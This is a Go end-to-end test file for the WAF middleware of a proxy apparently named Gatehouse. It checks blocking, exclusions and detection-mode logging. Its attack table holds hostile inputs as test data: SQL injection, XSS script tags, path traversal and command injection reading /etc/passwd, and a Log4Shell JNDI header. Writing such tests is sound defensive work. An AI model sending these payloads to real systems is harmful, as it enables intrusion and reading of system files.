package e2e

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// wafConfig has one blocking route (/shop/*) and one detection-only route
// (/watch/*) in front of the same backend; both share nothing else, so the
// binary compiles the CRS twice (one engine per distinct configuration).
func wafConfig(backend string) string {
	return fmt.Sprintf(`
listeners: [ { address: "127.0.0.1:0" } ]
routes:
  - match: { path: /shop/* }
    middleware:
      - waf:
          mode: blocking
          paranoia_level: 1
          request_body: { limit: 16KB, over_limit: pass }
          exclusions: [ { rule_ids: [942100], paths: ["/shop/search"] } ]
    upstream: be
  - match: { path: /watch/* }
    middleware:
      - waf: { mode: detection }
    upstream: be
upstreams:
  be: { targets: [ "%s" ] }
`, backend)
}

// TestWAFBlocksBeforeBackend: attacks get Gatehouse's 403 and the backend
// never sees them; clean requests and excluded paths pass; detection mode
// forwards the attack and logs the rules with the request ID.
func TestWAFBlocksBeforeBackend(t *testing.T) {
	be := newRecorder(t, "be")
	inst := start(t, wafConfig(be.Addr()))
	c := newClient(t)
	sqli := url.QueryEscape("1' OR '1'='1")
	attacks := []struct {
		name, method, path, ctype, body string
		hdr                             []string
	}{
		{name: "sqli", method: "GET", path: "/shop/item?id=" + sqli},
		{name: "xss query", method: "GET", path: "/shop/q?s=" + url.QueryEscape("<script>alert(1)</script>")},
		{name: "xss form", method: "POST", path: "/shop/comment", ctype: "application/x-www-form-urlencoded",
			body: "text=" + url.QueryEscape("<script>alert(1)</script>")},
		{name: "traversal", method: "GET", path: "/shop/dl?file=../../etc/passwd"},
		{name: "log4shell", method: "GET", path: "/shop/", hdr: []string{"X-Api-Version", "${jndi:ldap://x/a}"}},
		{name: "shell", method: "GET", path: "/shop/ping?h=" + url.QueryEscape("1; cat /etc/passwd")},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			req, _ := http.NewRequest(a.method, inst.URL(a.path), strings.NewReader(a.body))
			if a.ctype != "" {
				req.Header.Set("Content-Type", a.ctype)
			}
			for i := 0; i+1 < len(a.hdr); i += 2 {
				req.Header.Set(a.hdr[i], a.hdr[i+1])
			}
			resp, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			body := wafReadAll(t, resp)
			if resp.StatusCode != http.StatusForbidden || !strings.HasPrefix(body, "403 Forbidden\nrequest-id: ") {
				t.Fatalf("got %d %q, want Gatehouse's 403", resp.StatusCode, body)
			}
		})
	}
	if n := be.Count(); n != 0 {
		t.Fatalf("backend received %d attack requests", n)
	}
	if status, _, _ := get(t, c, inst.URL("/shop/item?id=42"), "", "Accept", "text/html"); status != 200 {
		t.Errorf("clean request: status %d", status)
	}
	if status, _, _ := get(t, c, inst.URL("/shop/search?q="+sqli), "", "Accept", "text/html"); status != 200 {
		t.Errorf("excluded path: status %d", status)
	}
	if n := be.Count(); n != 2 {
		t.Fatalf("backend received %d requests, want the 2 clean ones", n)
	}

	mark := inst.Stderr.Len()
	status, _, _ := get(t, c, inst.URL("/watch/item?id="+sqli), "")
	if status != 200 || be.Count() != 3 {
		t.Fatalf("detection mode: status %d, backend count %d; want 200 and the request forwarded", status, be.Count())
	}
	// The WAF logs when a transaction ends, which may be after its response
	// reached the client: an earlier request's "waf match" line can still
	// arrive after mark, so wait for the one about this path.
	e, _, ok := inst.Stderr.waitFor(mark, logTimeout, inst.done, func(e entry, _ string) bool {
		return e.str("msg") == "waf match" && e.str("path") == "/watch/item"
	})
	if !ok {
		t.Fatal(`no "waf match" log line for /watch/item`)
	}
	id := e.str("request_id")
	if id == "" || e.str("mode") != "detection" || !strings.Contains(fmt.Sprint(e["rule_ids"]), "942100") {
		t.Fatalf("waf match line %v: want request_id, mode detection and rule 942100", e)
	}
	if a := inst.AccessLine(id); !strings.Contains(fmt.Sprint(a), "/watch/item") {
		t.Errorf("access line for %s is not the detected request: %v", id, a)
	}
}

// TestWAFValidateTime: `gatehouse validate` compiles the rules of every
// distinct waf configuration; it must stay quick.
func TestWAFValidateTime(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "gatehouse.yaml")
	if err := os.WriteFile(path, []byte(wafConfig("127.0.0.1:9")), 0o644); err != nil {
		t.Fatal(err)
	}
	begin := time.Now()
	stdout, stderr, code := runCLI(t, dir, "validate", "-c", path)
	took := time.Since(begin)
	if code != 0 {
		t.Fatalf("validate exit %d: %s %s", code, stdout, stderr)
	}
	t.Logf("validate with two waf configurations took %v", took)
	if took > 10*time.Second {
		t.Errorf("validate took %v", took)
	}
}

func wafReadAll(t *testing.T, resp *http.Response) string {
	t.Helper()
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("reading body: %v", err)
	}
	return string(b)
}
